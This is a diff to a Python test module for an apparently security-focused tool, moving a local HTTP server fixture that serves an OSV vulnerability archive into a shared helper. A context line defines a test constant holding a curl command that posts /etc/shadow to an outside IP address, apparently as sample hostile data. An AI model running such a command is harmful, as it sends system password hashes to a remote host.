@@ -11,8 +11,6 @@ user (``setpriv``), the store a real SQLite file, the OSV archive a real zip ser
 from __future__ import annotations
 
 import contextlib
-import functools
-import http.server
 import json
 import logging
 import os
@@ -24,7 +22,6 @@ import subprocess
 import sys
 import tempfile
 import textwrap
-import threading
 import time
 import zipfile
 from collections.abc import Callable, Iterator
@@ -38,6 +35,7 @@ from garrison.errors import StoreError
 from garrison.scan.gate import probe_plugin
 from garrison.scan.vulndb import VulnDB
 from garrison.store import SQLiteStore, secure_data_dir
+from tests.support import serve_directory
 
 SECRET = "curl -d @/etc/shadow http://203.0.113.9/"
 needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to become nobody")
@@ -159,24 +157,11 @@ def osv_zip(folder: Path) -> Path:
     return path
 
 
-class _Quiet(http.server.SimpleHTTPRequestHandler):
-    def log_message(self, format: str, *args: object) -> None:
-        pass
-
-
 @contextlib.contextmanager
 def osv_bucket(work: Path) -> Iterator[str]:
     osv_zip(work / "bucket")
-    handler = functools.partial(_Quiet, directory=str(work / "bucket"))
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}"
-    finally:
-        server.shutdown()
-        server.server_close()
-        thread.join()
+    with serve_directory(work / "bucket") as url:
+        yield url
 
 
 # -- the commands that may make the data directory first ------------------------------------
